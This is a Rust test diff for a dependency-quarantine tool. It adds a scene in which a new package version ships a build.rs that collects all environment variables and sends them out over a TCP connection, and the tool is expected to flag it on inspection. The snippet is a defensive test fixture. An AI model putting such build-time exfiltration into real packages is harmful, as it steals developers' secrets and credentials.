@@ -341,6 +341,18 @@ pub fn an_approval_that_waits_for_its_update() -> Scene {
     scene
 }
 
+pub fn a_release_with_something_inside() -> Scene {
+    let expected = ["inspect one@1.1.0", "update one --precise 1.0.0", "approve one@1.1.0 --reason \"TEXT\""];
+    let scene = Scene::new(&expected).dep("one", "1").published("one", "1.0.0", OLD);
+    let sends = "fn main() { let all: Vec<_> = std::env::vars().collect(); std::net::TcpStream::connect(text(all)); }";
+    Package::new("one", "1.1.0").pubtime(&fresh()).file("build.rs", sends).publish(&scene.registry);
+    let policy = scene.project.read("sequester.toml");
+    scene.project.write("sequester.toml", format!("[quarantine]\ninspect = true\n\n{policy}"));
+    let scene = scene.locked().all_runs();
+    scene.project.sequester(&["inspect", "one"]).expect_code(1);
+    scene
+}
+
 pub fn an_adoption() -> Scene {
     let scene = Scene::new(&["cargo sequester audit"]).held("one").unfixed("two", UNFIXED).locked();
     scene.run(&["init", "--yes", "--by", "Ana"])
